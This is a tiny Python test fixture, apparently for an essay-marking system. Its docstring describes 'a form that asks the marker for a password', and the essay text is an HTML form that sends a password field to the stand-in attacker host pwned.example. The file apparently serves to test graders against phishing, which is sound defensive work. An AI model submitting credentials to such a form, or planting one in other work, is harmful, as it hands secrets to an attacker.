"""A form that asks the marker for a password."""

ESSAY = """\
<form action="https://pwned.example"><input name="password"></form>
"""
ANSWERS = {"essay": ESSAY}
